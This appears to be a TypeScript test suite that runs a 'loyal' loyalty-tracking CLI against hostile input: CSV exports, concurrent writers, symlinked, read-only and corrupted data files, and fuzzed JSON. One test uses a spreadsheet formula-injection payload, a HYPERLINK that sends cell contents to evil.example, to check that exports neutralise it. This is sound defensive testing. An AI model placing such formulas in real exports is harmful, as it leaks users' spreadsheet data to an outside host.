// The `loyal` command line under attack, as a user's shell runs it: the CLI bundled like
// dist/cli.js and spawned as a real process on real files. Hostile text in exports, broken
// and strange data files, several writers at once. The slow cases (50 MB books, SIGKILL
// during saves, a full disk) are in scripts/attack.mjs.
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, lstatSync, readdirSync, readFileSync, statSync, symlinkSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { bundleCli } from '../support/cliBundle';
import type { LoyalFile } from '../../../src/domain/records';

let folder: string;
let cli: string;

interface Run {
  status: number | null;
  stdout: string;
  stderr: string;
}

function loyal(args: string[], env: NodeJS.ProcessEnv = { LOYAL_USER: 'Tester' }): Run {
  const result = spawnSync(process.execPath, [cli, ...args], { cwd: folder, encoding: 'utf8', env: { PATH: process.env.PATH, TZ: 'Europe/Rome', ...env }, timeout: 60_000 });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

function loyalAsync(args: string[]): Promise<Run> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [cli, ...args], { cwd: folder, env: { PATH: process.env.PATH, TZ: 'Europe/Rome', LOYAL_USER: 'Tester' } });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    child.on('close', (status) => resolve({ status, stdout, stderr }));
  });
}

const sha = (path: string): string => createHash('sha1').update(readFileSync(path)).digest('hex');
/** A crash rather than a message: a stack trace, or an exit code the CLI contract does not have. */
const crashed = (run: Run): boolean => ![0, 1, 2].includes(run.status ?? -1) || /\n\s+at .+:\d+:\d+|TypeError|RangeError|ReferenceError/.test(run.stderr);

async function book(file = 'loyal.json'): Promise<LoyalFile> {
  return JSON.parse(await readFile(join(folder, file), 'utf8')) as LoyalFile;
}

describe('loyal (command line) under attack', function () {
  this.timeout(180_000);

  before(async () => {
    folder = await mkdtemp(join(tmpdir(), 'loyal-cli-attack-'));
    cli = join(folder, 'cli.js');
    await bundleCli(cli);
  });
  after(async () => {
    await rm(folder, { recursive: true, force: true });
  });
  beforeEach(async () => {
    await rm(join(folder, 'loyal.json'), { force: true });
    await rm(join(folder, '.loyal'), { recursive: true, force: true });
  });

  describe('CSV exports', () => {
    it('neutralises a customer named like a formula, and imports it back unchanged', async () => {
      assert.equal(loyal(['init']).status, 0);
      const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
      assert.equal(loyal(['add', 'customer', '--name', evil, '--external-id', 'E1', '--company', '@SUM(A1:A9)', '--tag', '+vip']).status, 0);
      assert.equal(loyal(['add', 'purchase', '--customer', 'E1', '--amount=-12.50', '--date', '2026-01-05', '--note=-1+2']).status, 0);
      const customers = loyal(['export', 'customers']);
      assert.equal(customers.status, 0, customers.stderr);
      const [row] = parse(customers.stdout, { columns: true }) as Array<Record<string, string>>;
      assert.deepEqual([row.name, row.company, row.tags], [`'${evil}`, "'@SUM(A1:A9)", "'+vip"]);
      const [purchase] = parse(loyal(['export', 'purchases']).stdout, { columns: true }) as Array<Record<string, string>>;
      assert.deepEqual([purchase.amount, purchase.note], ['-12.50', "'-1+2"], 'a refund stays a number, a sum does not run');
      // --json is data for scripts, not for a spreadsheet: as written.
      assert.equal(JSON.parse(loyal(['export', 'customers', '--json']).stdout)[0].name, evil);

      // Into a new book, back out of it: the same text.
      await writeFile(join(folder, 'c.csv'), customers.stdout);
      await writeFile(join(folder, 'p.csv'), loyal(['export', 'purchases']).stdout);
      assert.equal(loyal(['init', '--file', 'other.json']).status, 0);
      assert.equal(loyal(['import', 'customers', 'c.csv', '--file', 'other.json']).status, 0);
      assert.equal(loyal(['import', 'purchases', 'p.csv', '--file', 'other.json']).status, 0);
      const other = await book('other.json');
      assert.deepEqual([other.customers[0].name, other.customers[0].company, other.customers[0].tags], [evil, '@SUM(A1:A9)', ['+vip']]);
      assert.deepEqual([other.purchases[0].amount, other.purchases[0].note], ['-12.50', '-1+2']);
    });
  });

  describe('writers and strange data files (the fast part of scripts/attack.mjs)', () => {
    beforeEach(() => {
      assert.equal(loyal(['init']).status, 0);
      assert.equal(loyal(['add', 'customer', '--name', 'Ann', '--external-id', 'A1']).status, 0);
    });

    it('loses nothing with 4 processes writing at once', async () => {
      const writer = async (w: number): Promise<number[]> => {
        const codes: number[] = [];
        for (let i = 0; i < 3; i++) codes.push((await loyalAsync(['add', 'purchase', '--customer', 'A1', '--amount', '1.00', '--date', '2026-01-05', '--note', `w${w}-${i}`])).status ?? -1);
        return codes;
      };
      const codes = (await Promise.all([0, 1, 2, 3].map(writer))).flat();
      assert.deepEqual(codes, new Array(12).fill(0));
      const notes = (await book()).purchases.map((p) => p.note).sort();
      assert.deepEqual(notes, ['w0-0', 'w0-1', 'w0-2', 'w1-0', 'w1-1', 'w1-2', 'w2-0', 'w2-1', 'w2-2', 'w3-0', 'w3-1', 'w3-2']);
    });

    it('writes through a data file that is a symbolic link, and backs up the real previous version', async () => {
      await mkdir(join(folder, 'synced'), { recursive: true });
      await writeFile(join(folder, 'synced', 'book.json'), await readFile(join(folder, 'loyal.json')));
      await rm(join(folder, 'loyal.json'));
      symlinkSync(join('synced', 'book.json'), join(folder, 'loyal.json'));
      assert.equal(loyal(['add', 'customer', '--name', 'Through the link']).status, 0);
      assert.ok(lstatSync(join(folder, 'loyal.json')).isSymbolicLink(), 'the link is kept');
      assert.deepEqual((await book(join('synced', 'book.json'))).customers.map((c) => c.name).sort(), ['Ann', 'Through the link'], 'the real file has the change');
      const backups = readdirSync(join(folder, '.loyal', 'backups')).filter((name) => name.startsWith('loyal.json.'));
      assert.ok(backups.length > 0);
      const newest = join(folder, '.loyal', 'backups', backups.sort().at(-1)!);
      assert.ok(lstatSync(newest).isFile(), 'the backup is a file, not a second link');
      assert.deepEqual(
        (JSON.parse(readFileSync(newest, 'utf8')) as LoyalFile).customers.map((c) => c.name),
        ['Ann'],
        'the backup keeps the previous version',
      );
      await rm(join(folder, 'synced'), { recursive: true, force: true });
      await rm(join(folder, 'loyal.json'));
    });

    it('refuses to write over a read-only data file, and leaves it as it was', async () => {
      const path = join(folder, 'loyal.json');
      chmodSync(path, 0o444);
      const before = sha(path);
      const run = loyal(['add', 'customer', '--name', 'Refused']);
      chmodSync(path, 0o644);
      assert.equal(run.status, 1, run.stderr);
      assert.match(run.stderr, /read-only/);
      assert.equal(sha(path), before);
      assert.equal(statSync(path).mode & 0o777, 0o644);
    });

    it('refuses a directory, a 0-byte file and a 5 MB string with a message, writing nothing', async () => {
      await mkdir(join(folder, 'dir.json'));
      await writeFile(join(folder, 'empty.json'), '');
      const file = await book();
      // scripts/attack.mjs tries 50 MB; the limit of a note is 10,000 characters.
      file.customers[0].notes = 'x'.repeat(5 * 1024 * 1024);
      await writeFile(join(folder, 'huge.json'), JSON.stringify(file, null, 2));
      for (const [name, message] of [
        ['dir.json', /directory/],
        ['empty.json', /not valid JSON/],
        ['huge.json', /customers\[0\]\.notes: Too big/],
      ] as const) {
        const path = join(folder, name);
        const before = statSync(path).isFile() ? sha(path) : 'folder';
        for (const args of [['check'], ['add', 'customer', '--name', 'X']]) {
          const run = loyal([...args, '--file', path]);
          assert.equal(run.status, 1, `${args[0]} ${name}: ${run.stderr}`);
          assert.match(run.stderr, message, name);
          assert.ok(!crashed(run), run.stderr);
        }
        assert.equal(statSync(path).isFile() ? sha(path) : 'folder', before, name);
      }
    });

    it('reads and saves a file with a BOM or CRLF line ends', async () => {
      const text = await readFile(join(folder, 'loyal.json'), 'utf8');
      await writeFile(join(folder, 'bom.json'), `\ufeff${text}`);
      await writeFile(join(folder, 'crlf.json'), text.replace(/\n/g, '\r\n'));
      for (const name of ['bom.json', 'crlf.json']) {
        assert.equal(loyal(['check', '--file', name]).status, 0, name);
        assert.equal(loyal(['add', 'customer', '--name', 'Bo', '--file', name]).status, 0, name);
        assert.deepEqual((await book(name)).customers.map((c) => c.name).sort(), ['Ann', 'Bo'], name);
      }
    });

    it('quotes a 100 kB flag value in a message cut short, not whole', () => {
      const run = loyal(['add', 'incident', '--customer', 'A1', '--category', 'product', '--channel', 'email', '--summary', 'y'.repeat(100_000)]);
      assert.equal(run.status, 2);
      assert.match(run.stderr, /--summary: "y{60}…" \(100000 characters\)/);
      assert.ok(run.stderr.length < 1000, `${run.stderr.length} characters of message`);
    });

    it('never crashes on 12 random mutations of a valid file, and never writes over a broken one', async () => {
      const valid = await readFile(join(folder, 'loyal.json'), 'utf8');
      let seed = 3;
      const random = (): number => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
      for (let n = 0; n < 12; n++) {
        const at = Math.floor(random() * valid.length);
        const mutated = n % 3 === 0 ? valid.slice(0, at) : n % 3 === 1 ? valid.slice(0, at) + '{}[]",:0'[n % 8] + valid.slice(at) : valid.slice(0, at) + valid.slice(at + 1 + (n % 7));
        await writeFile(join(folder, 'mutated.json'), mutated);
        const before = sha(join(folder, 'mutated.json'));
        const check = loyal(['check', '--file', 'mutated.json']);
        assert.ok(!crashed(check) && [0, 1].includes(check.status ?? -1), `mutation ${n}: ${check.stderr}`);
        const add = loyal(['add', 'customer', '--name', 'Mutant', '--file', 'mutated.json']);
        assert.ok(!crashed(add), `mutation ${n}: ${add.stderr}`);
        if (check.status === 1) {
          assert.equal(add.status, 1, `mutation ${n}`);
          assert.equal(sha(join(folder, 'mutated.json')), before, `mutation ${n}: a broken file is never written over`);
        } else {
          assert.equal(loyal(['check', '--file', 'mutated.json']).status, 0, `mutation ${n}: still valid after the add`);
        }
      }
    });
  });
});
